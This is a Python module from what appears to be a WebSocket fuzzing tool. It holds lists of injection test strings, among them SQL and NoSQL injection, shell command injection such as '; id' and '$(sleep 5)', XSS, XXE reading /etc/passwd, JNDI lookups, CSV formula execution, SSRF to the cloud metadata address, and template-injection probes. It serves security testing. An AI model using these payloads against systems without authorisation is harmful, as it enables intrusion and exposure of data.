"""Strings that mean something to an interpreter behind the server: SQL, shells, templates, browsers, XML, LDAP.

None of them changes or deletes anything on its own. Where an interpreter can be made to calculate, it is asked for
`1337*7331`, so that the product in a reply proves it; those that wait wait five seconds.
"""

from __future__ import annotations

from collections.abc import Iterator

from wsinspect.replay.fuzz.values import Typed, Value
from wsinspect.replay.leaves import Scalar

_PRODUCT = b"9801547"
"""1337*7331."""

_TEXTS: dict[str, tuple[str, ...]] = {
    "SQL": (
        "'", "''", '"', "`", "')", "';", "' OR '1'='1", "' OR 1=1-- -", '" OR "1"="1', "1 OR 1=1", "' AND '1'='2",
        "admin'-- ", "' UNION SELECT NULL-- -", "' UNION SELECT NULL,NULL-- -", "1 ORDER BY 100-- -",
        "' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "'; SELECT pg_sleep(5)-- -", "'; WAITFOR DELAY '0:0:5'-- -",
        "' AND 1=randomblob(100000000)-- -", "%' OR '%'='", "\\", "\\'",
    ),
    "NoSQL": ("' || '1'=='1", '\'; return true; var a=\'', "{$gt: ''}", '[$ne]=1', "true, $where: '1 == 1'"),
    "command": (
        "; id", "| id", "|| id", "&& id", "& id", "`id`", "$(id)", "\nid\n", "; sleep 5", "| sleep 5", "$(sleep 5)",
        "& ping -n 6 127.0.0.1 &", "-v", "--version", "$IFS", "${PATH}", "%PATH%",
    ),
    "XSS": (
        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", "javascript:alert(1)", "</script><script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">x</a>", "[x](javascript:alert(1))", "<b>wsinspect</b>", "\\u003cscript\\u003e",
    ),
    "XXE": (
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "wsinspect"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;&y;&y;</a>',
        '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://127.0.0.1:1/a.dtd"><a/>',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
        "<![CDATA[x", "<a", "]]>",
    ),
    "LDAP": ("*", "*)(uid=*", "*)(|(uid=*", "admin)(&)", "\\2a", "x)(objectClass=*", "*)(&"),
    "XPath": ("' or '1'='1", "'] | //* | a['", "count(//*)"),
    "CRLF": ("a\r\nX-Injected: 1", "a\r\n\r\n<b>", "a%0d%0aX-Injected:%201", "a\u560a\u560dX-Injected: 1", "a\nb: c"),
    "lookup": (
        "${jndi:ldap://127.0.0.1:1/a}", "${${lower:j}ndi:ldap://127.0.0.1:1/a}", "${env:PATH}", "${sys:java.version}",
        "%{(#a=1)}", "@(1+1)",
    ),
    "prototype": ("__proto__.polluted", "constructor.prototype.polluted", "__proto__[polluted]"),
    "CSV": ("=1+1", "+1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0"),
    "serialised": (
        'O:8:"stdClass":0:{}', "rO0ABXNyAA==", "gASVAAAAAAAAAAA=", "!!python/object/apply:time.sleep [5]",
        "_$$ND_FUNC$$_",
    ),
    "SSRF": (
        "http://127.0.0.1:1/", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:1/_", "//127.0.0.1:1",
    ),
}  # fmt: skip
_EVALUATED = {
    "template": (
        "{{1337*7331}}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{1337*7331}", "@(1337*7331)",
        "*{1337*7331}", "[[${1337*7331}]]", "{{= 1337*7331}}", "{%print(1337*7331)%}", "$eval('1337*7331')",
    ),
    "code": ("1337*7331", "'+(1337*7331)+'", '"+(1337*7331)+"', "eval('1337*7331')"),
    "command": ("$((1337*7331))", "; expr 1337 '*' 7331", "`expr 1337 '*' 7331`"),
    "SQL": ("' UNION SELECT 1337*7331-- -", "'||(1337*7331)||'"),
}  # fmt: skip
_OBJECTS: tuple[tuple[str, dict[str, str | int | None]], ...] = (
    ("$ne", {"$ne": None}),
    ("$gt", {"$gt": ""}),
    ("$regex", {"$regex": ".*"}),
    ("$where", {"$where": "sleep(5000) || true"}),
    ("$exists", {"$exists": 1}),
)


def injections(original: Scalar) -> Iterator[Value]:
    """Yield injections: alone, and those that need something before them behind what was there.

    Args:
        original: What was there.
    """
    for kind, texts in _TEXTS.items():
        yield from (Value(f"{kind}: {text}", Typed(text), marked=True) for text in texts)
    for kind, texts in _EVALUATED.items():
        yield from (Value(f"{kind}: {text}", Typed(text), proof=_PRODUCT, marked=True) for text in texts)
    yield from (Value(f"NoSQL: {label}", Typed(dict(value))) for label, value in _OBJECTS)
    yield Value("prototype: __proto__", Typed({"__proto__": {"polluted": True}}))
    yield Value("prototype: constructor", Typed({"constructor": {"prototype": {"polluted": True}}}))
    if isinstance(original, str | int) and not isinstance(original, bool) and original != "":
        for kind in ("SQL", "command"):
            for text in _TEXTS[kind]:
                yield Value(f"{kind}, behind what was there: {text}", Typed(f"{original}{text}"), marked=True)
